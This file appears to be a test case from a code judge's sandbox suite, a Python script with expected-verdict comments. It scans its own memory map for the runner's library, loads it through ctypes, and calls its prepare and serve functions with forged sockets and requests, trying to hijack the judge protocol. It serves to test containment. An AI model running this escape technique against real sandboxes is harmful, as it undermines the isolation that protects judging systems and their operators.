# verdicts: AC RE
# why: finds the runner's library in its own memory and calls it, with sockets of its own where the library expects the judge's
# tests: 2
import ctypes
import os
import signal
import socket
import struct
import time

paths = set()
with open("/proc/self/maps") as maps:
    for line in maps:
        path = line.split(maxsplit=5)[-1].strip()
        if path.startswith("/") and not path.startswith(("/usr/", "/lib/")):
            paths.add(path)
request = struct.pack("=11I", 1, 1, 0, 0, 60000, 60000, 60000, 1 << 30, 0, 0, 20)
for path in paths:
    for prepare in (False, True):
        child = os.fork()
        if child == 0:
            null = os.open("/dev/null", os.O_RDWR)
            os.dup2(null, 1), os.dup2(null, 2)
            ours, theirs = socket.socketpair()
            ours.send(request * 2)
            for fd in range(3, 32):
                if fd not in (ours.fileno(), theirs.fileno()):
                    os.dup2(theirs.fileno(), fd)
            try:
                library = ctypes.CDLL(path)
                if prepare:
                    library.prepare(theirs.fileno(), os.open("/dev/zero", os.O_RDONLY), -1, -1, -1, 1000, 1000, 1000, 0)
                library.serve()
            except Exception:
                pass
            os._exit(0)
        for _ in range(20):
            if os.waitpid(child, os.WNOHANG)[0]:
                break
            time.sleep(0.005)
        else:
            os.kill(child, signal.SIGKILL)
print("contained")
